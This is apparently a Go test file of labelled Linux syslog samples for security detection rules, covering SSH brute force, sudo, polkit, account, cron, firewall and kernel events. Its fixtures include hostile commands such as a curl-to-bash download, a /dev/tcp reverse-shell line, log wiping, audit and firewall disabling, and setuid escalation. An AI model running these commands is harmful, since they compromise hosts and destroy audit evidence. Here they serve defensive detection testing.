package content_test

import (
	"fmt"
	"time"
)

func sshFailedAs(from string, users ...string) []event {
	var out []event
	for _, u := range users {
		out = append(out, syslog("sshd[4210]", "Failed password for "+u+" from "+from+" port 38921 ssh2")...)
	}
	return out
}

func users(n int) []string {
	var out []string
	for i := range n {
		out = append(out, fmt.Sprintf("user%d", i))
	}
	return out
}

func suSucceeded(user string) []event { return syslog("su", "(to root) "+user+" on pts/0") }

func polkitRefused(user string) []event {
	return syslog("polkitd[612]", "Operator of unix-session:2 FAILED to authenticate to gain authorization for action org.freedesktop.policykit.exec for unix-process:4210:99012 [pkexec id] (owned by unix-user:"+user+")")
}

// scanned is a packet to a port that the packet filter refused.
func scanned(from string, ports ...int) []event {
	var out []event
	for _, p := range ports {
		out = append(out, syslog("kernel", fmt.Sprintf("[ 12.5] [UFW BLOCK] IN=eth0 OUT= MAC=aa SRC=%s DST=10.1.0.9 LEN=40 TTL=64 PROTO=TCP SPT=4242 DPT=%d SYN", from, p))...)
	}
	return out
}

func ports(first, n int) []int {
	var out []int
	for i := range n {
		out = append(out, first+i)
	}
	return out
}

func crashed(process string) []event {
	return syslog("kernel", "[ 12.5] "+process+"[4210]: segfault at 0 ip 00007f1 sp 00007ffd error 4 in libc.so.6[7f1+1]")
}

func deleted(user string) []event { return syslog("userdel[91]", "delete user '"+user+"'") }

var linuxExamples = []example{
	// sshd
	eg(900112, syslog("sshd[1]", "Accepted password for root from 203.0.113.7 port 38921 ssh2"),
		syslog("sshd[1]", "Accepted publickey for root from 203.0.113.7 port 38921 ssh2: ED25519 SHA256:x", "Accepted password for rooter from 203.0.113.7 port 38921 ssh2")),
	eg(900113, syslog("sshd[1]", "User bob from 203.0.113.7 not allowed because not listed in AllowUsers"), syslog("sshd[1]", "User child is on pid 4211")),
	eg(900114, syslog("sshd[1]", "fatal: Timeout before authentication for 203.0.113.7 port 38921"), syslog("sshd[1]", "Timeout, client not responding from user bob 203.0.113.7 port 38921")),
	eg(900115, syslog("sshd[1]", "Server listening on 0.0.0.0 port 22.", "Received signal 15; terminating."), syslog("sshd[1]", "Received SIGHUP; restarting.")),
	eg(900116, syslog("sshd[1]", "Authentication key RSA SHA256:abc revoked by file /etc/ssh/revoked", "error: Authentication key ED25519 SHA256:abc revoked by file /etc/ssh/revoked"),
		syslog("sshd[1]", "Authentication tried for bob with correct key but not from a permitted host")),
	eg(900117, syslog("sshd[1]", "Authentication refused: bad ownership or modes for directory /home/bob/.ssh"), syslog("sshd[1]", "Authentication refused: realpath /home/bob/.ssh failed")),
	{900123, [][]event{sshFailedAs("203.0.113.7", users(6)...), slowly(100*time.Second, sshFailedAs("203.0.113.7", users(6)...))}, [][]event{
		sshFailedAs("203.0.113.7", users(5)...), times(6, sshFailed("203.0.113.7")), then(sshFailedAs("203.0.113.8", users(5)...), sshFailed("203.0.113.7")),
		slowly(130*time.Second, sshFailedAs("203.0.113.7", users(6)...)),
	}},
	{900124, [][]event{then(sshFailedAs("203.0.113.7", users(6)...), sshAccepted("203.0.113.7"))}, [][]event{
		then(sshFailedAs("203.0.113.7", users(5)...), sshAccepted("203.0.113.7")), then(sshFailedAs("203.0.113.7", users(6)...), sshAccepted("203.0.113.8")),
	}},
	{900125, [][]event{then(times(8, sshUnknown("203.0.113.7")), sshAccepted("203.0.113.7"))}, [][]event{
		then(times(7, sshUnknown("203.0.113.7")), sshAccepted("203.0.113.7")), then(times(8, sshUnknown("203.0.113.7")), sshAccepted("203.0.113.8")),
	}},
	{900126, [][]event{times(10, syslog("sshd[1]", "Did not receive identification string from 203.0.113.7 port 38921"))}, [][]event{
		times(9, syslog("sshd[1]", "Did not receive identification string from 203.0.113.7 port 38921")), times(10, syslog("sshd[1]", "kex_exchange_identification: Connection closed by remote host")),
	}},

	// sudo, su, PAM
	{900206, [][]event{sudo("/usr/bin/id"), then(sudo("/usr/bin/id"), syslog("sudo", "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id"))}, [][]event{times(2, sudo("/usr/bin/id"))}},
	eg(900207, syslog("sudo", "bob : 1 incorrect password attempt ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id"),
		syslog("sudo", "bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id")),
	eg(900208, then(sudo("/bin/bash"), sudo("/usr/bin/su -"), sudo("/bin/sh -i")),
		then(sudo("/bin/bash /opt/backup.sh"), sudo("/usr/bin/sha256sum x"), syslog("sudo", "bob : TTY=pts/0 ; PWD=/ ; USER=postgres ; COMMAND=/bin/bash"))),
	eg(900209, then(sudo("/usr/bin/chmod u+s /tmp/sh"), sudo("/bin/chmod 4755 /usr/local/bin/x"), sudo("/usr/sbin/setcap cap_setuid+ep /usr/bin/python3")),
		then(sudo("/usr/bin/chmod 0755 /tmp/sh"), sudo("/usr/bin/chmod u+x /opt/s"), sudo("/usr/sbin/setcap cap_net_bind_service+ep /usr/bin/node"))),
	eg(900210, then(sudo("/usr/bin/docker run --rm --privileged alpine sh"), sudo("/usr/bin/docker run -it -v /:/host alpine"), sudo("/usr/bin/podman run --pid=host alpine")),
		then(sudo("/usr/bin/docker run --rm -v /srv/data:/data alpine"), sudo("/usr/bin/docker ps"))),
	eg(900211, then(sudo("/usr/bin/systemctl stop auditd"), sudo("/usr/bin/systemctl disable --now ufw.service"), sudo("/usr/sbin/iptables -F"), sudo("/usr/sbin/setenforce 0"), sudo("/usr/sbin/auditctl -e 0")),
		then(sudo("/usr/bin/systemctl restart auditd"), sudo("/usr/bin/systemctl stop nginx"), sudo("/usr/sbin/iptables -L"))),
	eg(900212, then(sudo("/usr/bin/rm -rf /var/log/auth.log"), sudo("/usr/bin/shred -u /home/bob/.bash_history"), sudo("/usr/bin/journalctl --vacuum-time=1s")),
		then(sudo("/usr/bin/rm -rf /var/cache/x"), sudo("/usr/bin/tail /var/log/auth.log"), sudo("/usr/bin/journalctl --vacuum-time=30d"))),
	{900213, [][]event{times(3, syslog("sudo", "bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id"))}, [][]event{
		times(2, syslog("sudo", "bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id")),
		times(3, syslog("sudo", "bob : 1 incorrect password attempt ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id")),
	}},
	eg(900214, then(sudo("/usr/sbin/usermod -aG sudo ann"), sudo("/usr/bin/gpasswd -a ann docker")), then(sudo("/usr/sbin/usermod -aG printers ann"), sudo("/usr/bin/docker ps"))),
	{900224, [][]event{then(times(5, suFailed()), suSucceeded("bob"))}, [][]event{then(times(4, suFailed()), suSucceeded("bob")), then(times(5, suFailed()), suSucceeded("ann"))}},
	{900245, [][]event{times(8, syslog("login[7]", "pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=/dev/tty1 ruser= rhost=  user=bob"))}, [][]event{
		times(7, syslog("login[7]", "pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=/dev/tty1 ruser= rhost=  user=bob")),
		times(4, syslog("login[7]", "pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=/dev/tty1 ruser= rhost=", "pam_unix(gdm-password:auth): authentication failure; logname= uid=0 euid=0 tty=/dev/tty1 ruser= rhost=")),
	}},

	// polkit
	eg(900250, syslog("polkitd[612]", "Registered Authentication Agent for unix-process:4210:99012"), syslog("polkit-agent-helper-1[612]", "Registered Authentication Agent for unix-process:4210:99012")),
	eg(900251, polkitRefused("bob"), syslog("polkitd[612]", "Operator of unix-session:2 successfully authenticated as unix-user:root to gain ONE-SHOT authorization for action org.freedesktop.policykit.exec for unix-process:4210:99012 [pkexec id] (owned by unix-user:bob)")),
	eg(900252, syslog("polkitd[612]", "Operator of unix-session:2 successfully authenticated as unix-user:root to gain ONE-SHOT authorization for action org.freedesktop.policykit.exec for unix-process:4210:99012 [pkexec id] (owned by unix-user:bob)"), polkitRefused("bob")),
	{900253, [][]event{times(5, polkitRefused("bob"))}, [][]event{times(4, polkitRefused("bob")), then(times(4, polkitRefused("bob")), polkitRefused("ann")), slowly(80*time.Second, times(5, polkitRefused("bob")))}},
	eg(900255, syslog("pkexec[4210]", "pam_unix(polkit-1:session): session opened for user root(uid=0) by (uid=1000)"), syslog("pkexecd[4210]", "pam_unix(polkit-1:session): session opened")),
	eg(900256, syslog("pkexec[4210]", "bob: Executing command [USER=root] [TTY=/dev/pts/0] [CWD=/home/bob] [COMMAND=/usr/bin/id]"), syslog("pkexec[4210]", "bob: Error executing command as another user: Not authorized [USER=root] [TTY=/dev/pts/0] [CWD=/home/bob] [COMMAND=/usr/bin/id]")),
	eg(900257, syslog("pkexec[4210]", "bob: Error executing command as another user: Not authorized [USER=root] [TTY=/dev/pts/0] [CWD=/home/bob] [COMMAND=/usr/bin/id]"), syslog("pkexec[4210]", "bob: Executing command [USER=root] [TTY=unknown] [CWD=/] [COMMAND=/usr/bin/echo Not authorized]")),
	eg(900258, syslog("pkexec[4210]", "bob: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=x]", "bob: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=x]"),
		syslog("pkexec[4210]", "bob: Executing command [USER=root] [TTY=/dev/pts/0] [CWD=/home/bob] [COMMAND=/usr/bin/grep SHELL /etc/shells]")),

	// accounts
	eg(900260, syslog("gpasswd[91]", "Couldn't authenticate user 'bob'"), syslog("gpg[91]", "Couldn't authenticate user 'bob'")),
	eg(900261, syslog("useradd[91]", "new user: name=ann, UID=1001, GID=1001, home=/home/ann, shell=/bin/bash, from=/dev/pts/0"), syslog("useradd[91]", "new user: name=_rpc, UID=108, GID=65534, home=/run/rpcbind, shell=/usr/sbin/nologin, from=none")),
	eg(900262, syslog("useradd[91]", "new user: name=_rpc, UID=108, GID=65534, home=/run/rpcbind, shell=/usr/sbin/nologin, from=none"), syslog("useradd[91]", "new user: name=ann, UID=1001, GID=1001, home=/home/ann, shell=/usr/sbin/nologin", "new user: name=x, UID=108, GID=108, home=/, shell=/bin/bash")),
	eg(900263, syslog("useradd[91]", "new user: name=ann, UID=0, GID=0, home=/home/ann, shell=/bin/bash, from=/dev/pts/0"), syslog("useradd[91]", "new user: name=ann, UID=1000, GID=0, home=/home/ann, shell=/bin/bash, from=/dev/pts/0")),
	eg(900264, syslog("groupadd[91]", "new group: name=ops, GID=1002", "group added to /etc/group: name=ops, GID=1002"), syslog("groupadd[91]", "failed adding group 'ops'")),
	eg(900265, then(syslog("usermod[91]", "add 'ann' to group 'printers'"), syslog("gpasswd[91]", "user ann added by root to group printers")), syslog("usermod[91]", "add 'ann' to group 'sudo'")),
	eg(900266, then(syslog("usermod[91]", "add 'ann' to group 'sudo'", "add 'ann' to shadow group 'sudo'"), syslog("gpasswd[91]", "user ann added by root to group docker")), syslog("usermod[91]", "add 'sudo' to group 'printers'", "delete 'ann' from group 'sudo'")),
	eg(900267, then(syslog("userdel[91]", "delete 'ann' from group 'sudo'"), syslog("gpasswd[91]", "user ann removed by root from group sudo")), syslog("usermod[91]", "add 'ann' to group 'printers'")),
	eg(900268, deleted("ann"), syslog("userdel[91]", "delete 'ann' from group 'sudo'")),
	eg(900269, syslog("usermod[91]", "change user 'ann' UID from '1001' to '0'"), syslog("usermod[91]", "change user 'ann' GID from '1001' to '0'", "change user 'ann' UID from '1001' to '1002'")),
	eg(900270, syslog("usermod[91]", "lock user 'ann' password", "unlock user 'ann' password"), syslog("usermod[91]", "change user 'lock' shell from '/bin/sh' to '/bin/bash'")),
	eg(900271, then(syslog("passwd[91]", "password for 'ann' changed by 'root'"), syslog("passwd[91]", "password for ann changed by root")), syslog("passwd[91]", "can't view or modify password information for ann")),
	eg(900272, then(syslog("chsh[91]", "changed user 'ann' shell to '/bin/zsh'"), syslog("chage[91]", "changed password expiry for ann"), syslog("usermod[91]", "change user 'ann' home from '/a' to '/b'")), syslog("usermod[91]", "change user 'ann' UID from '1001' to '0'")),
	eg(900273, syslog("useradd[91]", "failed adding user 'ann', exit code: 9"), syslog("useradd[91]", "cannot lock /etc/passwd")),
	eg(900274, then(syslog("groupdel[91]", "group 'ops' removed", "group 'ops' removed from /etc/group"), syslog("userdel[91]", "removed group 'ann' owned by 'ann'")), syslog("groupdel[91]", "cannot remove the primary group of user 'ann'")),
	{900276, [][]event{then(syslog("useradd[91]", "new user: name=ann, UID=1001, GID=1001, home=/home/ann, shell=/bin/bash, from=/dev/pts/0"), syslog("usermod[92]", "add 'ann' to group 'sudo'"))}, [][]event{
		then(syslog("useradd[91]", "new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash, from=/dev/pts/0"), syslog("usermod[92]", "add 'ann' to group 'sudo'")),
		slowly(1000*time.Second, then(syslog("useradd[91]", "new user: name=ann, UID=1001, GID=1001, home=/home/ann, shell=/bin/bash, from=/dev/pts/0"), syslog("usermod[92]", "add 'ann' to group 'sudo'"))),
	}},
	{900275, [][]event{times(5, deleted("ann"))}, [][]event{times(4, deleted("ann")), slowly(80*time.Second, times(5, deleted("ann")))}},

	// schedulers
	eg(900280, syslog("CRON[7]", "(root) CMD (run-parts /etc/cron.hourly)"), syslog("cronolog[7]", "(root) CMD (run-parts /etc/cron.hourly)")),
	eg(900281, syslog("crontab[7]", "(bob) REPLACE (bob)"), syslog("crontab[7]", "(bob) LIST (bob)", "(bob) BEGIN EDIT (bob)")),
	eg(900282, syslog("crontab[7]", "(bob) DELETE (bob)"), syslog("crontab[7]", "(bob) LIST (bob)")),
	eg(900283, syslog("crontab[7]", "(bob) AUTH (crontab command not allowed)"), syslog("crontab[7]", "(bob) LIST (bob)")),
	eg(900284, syslog("CRON[7]", "(CRON) error (grandchild #4211 failed with exit status 1)", "(*system*x) WRONG FILE OWNER (/etc/cron.d/x)", "(bob) FAILED (loading cron table)"), syslog("CRON[7]", "(root) CMD (echo error)")),
	eg(900285, syslog("CRON[7]", "(bob) CMD (curl -s http://203.0.113.9/a | bash)", "(www-data) CMD (bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444')", "(bob) CMD (echo aWQ= | base64 -d | sh)"),
		syslog("CRON[7]", "(bob) CMD (curl -s https://hc.example.org/ping > /dev/null)", "(bob) CMD (/opt/sync.sh | logger)")),
	eg(900286, syslog("CRON[7]", "(bob) CMD (/tmp/.x/run)", "(bob) CMD (bash -c /dev/shm/a)"), syslog("CRON[7]", "(bob) CMD (find /tmp -mtime +7 -delete)")),

	// packet filter
	{900323, [][]event{scanned("203.0.113.7", ports(20, 12)...)}, [][]event{scanned("203.0.113.7", ports(20, 11)...), times(12, scanned("203.0.113.7", 23)), then(scanned("203.0.113.8", ports(20, 11)...), scanned("203.0.113.7", 31))}},
	eg(900324, syslog("kernel", "[ 12.5] OUT-LOG: IN= OUT=eth0 SRC=10.1.0.9 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=51234 DPT=4444 SYN"),
		syslog("kernel", "[ 12.5] OUT-LOG: IN= OUT=eth0 SRC=10.1.0.9 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=51234 DPT=443 SYN", "[ 12.5] DROP: IN=eth0 OUT= SRC=203.0.113.9 DST=10.1.0.9 LEN=60 PROTO=TCP SPT=51234 DPT=4444 SYN")),

	// kernel
	eg(900350, syslog("kernel", "[ 12.5] eth0: link up"), syslog("kerneloops[1]", "[ 12.5] eth0: link up")),
	eg(900351, then(crashed("php-fpm"), syslog("kernel", "[ 12.5] traps: php-fpm[4210] general protection fault ip:7f1 sp:7ff error:0 in libc.so.6[7f1+1]")), syslog("kernel", "[ 12.5] php-fpm[4210]: segment 4 loaded")),
	{900352, [][]event{times(5, crashed("php-fpm"))}, [][]event{times(4, crashed("php-fpm")), then(times(4, crashed("php-fpm")), crashed("mysqld")), slowly(80*time.Second, times(5, crashed("php-fpm")))}},
	eg(900353, syslog("kernel", "[ 12.5] Out of memory: Killed process 4210 (mysqld) total-vm:1kB", "[ 12.5] Memory cgroup out of memory: Killed process 4210 (java) total-vm:1kB"), syslog("kernel", "[ 12.5] Memory: 16G available")),
	eg(900354, syslog("kernel", "[ 12.5] device eth0 entered promiscuous mode", "[ 12.5] eth0: entered promiscuous mode"), syslog("kernel", "[ 12.5] device eth0 left promiscuous mode", "[ 12.5] device veth12ab entered promiscuous mode")),
	eg(900355, syslog("kernel", "[ 12.5] device veth12ab entered promiscuous mode"), syslog("kernel", "[ 12.5] device eth0 entered promiscuous mode")),
	eg(900356, syslog("kernel", "[ 12.5] usb 1-1: New USB device found, idVendor=0781, idProduct=5567, bcdDevice= 1.00"), syslog("kernel", "[ 12.5] usb 1-1: USB disconnect, device number 4")),
	eg(900357, syslog("kernel", "[ 12.5] usb-storage 1-1:1.0: USB Mass Storage device detected"), syslog("kernel", "[ 12.5] usbcore: registered new interface driver usb-storage")),
	eg(900358, syslog("kernel", "[ 12.5] hello: loading out-of-tree module taints kernel."), syslog("kernel", "[ 12.5] hello: module license 'GPL'")),
	eg(900359, syslog("kernel", "[ 12.5] hello: module verification failed: signature and/or required key missing - tainting kernel"), syslog("kernel", "[ 12.5] hello: loading out-of-tree module taints kernel.")),
	eg(900360, syslog("kernel", `[ 12.5] audit: type=1400 audit(1795308881.123:456): apparmor="DENIED" operation="open" class="file" profile="/usr/sbin/cupsd" name="/etc/shadow" pid=4210 comm="cupsd"`),
		syslog("kernel", `[ 12.5] audit: type=1400 audit(1795308881.123:456): apparmor="STATUS" operation="profile_load" profile="unconfined" name="lsb_release" pid=4210`)),
	eg(900361, syslog("kernel", "[ 12.5] Kernel panic - not syncing: Fatal exception", "[ 12.5] BUG: unable to handle page fault for address: 0"), syslog("kernel", "[ 12.5] DEBUG: unable to read")),
	eg(900362, syslog("kernel", "[ 12.5] blk_update_request: I/O error, dev sda, sector 1", "[ 12.5] EXT4-fs error (device sda1): ext4_find_entry:1455", "[ 12.5] EXT4-fs (sda1): Remounting filesystem read-only"),
		syslog("kernel", "[ 12.5] EXT4-fs (sda1): mounted filesystem with ordered data mode. Opts: errors=remount-ro")),
	eg(900363, syslog("kernel", "[ 12.5] TCP: request_sock_TCP: Possible SYN flooding on port 80. Sending cookies."), syslog("kernel", "[ 12.5] TCP: cubic registered")),
	eg(900364, syslog("kernel", "[ 12.5] nf_conntrack: nf_conntrack: table full, dropping packet"), syslog("kernel", "[ 12.5] nf_conntrack version 0.5.0 (65536 buckets)")),
	eg(900365, syslog("kernel", "[ 12.5] Lockdown: insmod: unsigned module loading is restricted; see man kernel_lockdown.7"), syslog("kernel", "[ 12.5] Kernel is locked down from EFI Secure Boot; see man kernel_lockdown.7")),
	eg(900366, syslog("kernel", "[ 12.5] IPv4: martian source 10.1.0.9 from 127.0.0.1, on dev eth0"), syslog("kernel", "[ 12.5] IPv4: source route option")),
}
